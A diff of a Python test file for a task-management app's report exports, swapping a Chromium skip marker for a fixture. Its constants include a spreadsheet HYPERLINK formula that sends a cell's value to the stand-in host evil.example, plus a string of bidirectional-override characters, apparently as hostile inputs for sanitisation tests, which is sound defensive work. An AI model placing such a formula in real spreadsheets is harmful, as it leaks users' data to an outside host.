@@ -26,14 +26,18 @@ from domain.tally import tally_instant, walk
 from domain.timezone import VN_TZ
 from giaoviec.store.models import Official, Task, Unit
 from tests.org_fixture import seed_small_org
+from tests.services import need
 from tests.tally.test_tally_store import CAL, RUN_AT, population
 
 PERIOD = "2026-W47"
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Mở báo cáo")'
 BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
-NEEDS_CHROMIUM = pytest.mark.skipif(
-    find_chromium() is None, reason="Chromium is not installed (apt-get install chromium): "
-                                    "no PDF to check")
+
+
+@pytest.fixture
+def with_chromium() -> None:
+    if find_chromium() is None:
+        need("Chromium", "apt-get install chromium: no PDF to check")
 
 
 @pytest.fixture
@@ -206,7 +210,7 @@ def test_a_failing_chromium_gives_a_clear_error(
         write_pdf(html, tmp_path / "b.pdf", timeout=1)
 
 
-@NEEDS_CHROMIUM
+@pytest.mark.usefixtures("with_chromium")
 def test_the_pdf_is_a4(world: Engine, tmp_path: Path) -> None:
     paths = render_all(briefing(world), tmp_path)
     assert sorted(paths) == sorted(FORMATS)
